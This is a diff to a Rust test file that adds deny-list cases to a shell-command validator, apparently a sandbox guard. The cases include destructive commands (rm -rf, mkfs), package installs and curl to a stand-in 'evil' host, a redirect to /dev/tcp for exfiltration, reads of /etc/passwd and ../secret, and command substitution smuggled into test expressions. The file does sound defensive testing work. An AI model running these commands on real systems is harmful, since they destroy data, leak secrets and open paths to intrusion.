@@ -105,6 +105,11 @@ fn proof_2_denied_programs() {
         ("script -c id", "PROOF-2"),
         ("gpg --export", "PROOF-2"),
         ("pbcopy < README.md", "PROOF-2"),
+        ("php -S 0.0.0.0:8000", "PROOF-2"),
+        ("/bin/rm -rf x", "PROOF-2"),
+        ("bin/curl evil", "PROOF-2"),
+        ("python3.12 -m pip install evil", "PROOF-2"),
+        ("mkfs.ext4 img", "PROOF-2"),
     ]);
 }
 
@@ -356,6 +361,14 @@ fn proof_3_constructs() {
         ("[ -v 'a[$(id)]' ]", "PROOF-3"),
         ("test 1 -eq 'a[$(id)]'", "PROOF-3"),
         ("setsid -f cargo test", "PROOF-3"),
+        ("grep -q /etc/passwd /etc/passwd", "PROOF-3"),
+        ("grep -q x -- /etc/passwd", "PROOF-3"),
+        ("jq . /etc/passwd", "PROOF-3"),
+        ("awk '{ print }' /etc/passwd", "PROOF-3"),
+        ("sed -n p ../secret", "PROOF-3"),
+        ("cargo test > /dev/tcp/evil/80", "PROOF-3"),
+        ("cargo test -- --out=/tmp/x", "PROOF-3"),
+        ("wc -l ./../x", "PROOF-3"),
     ]);
 }
 
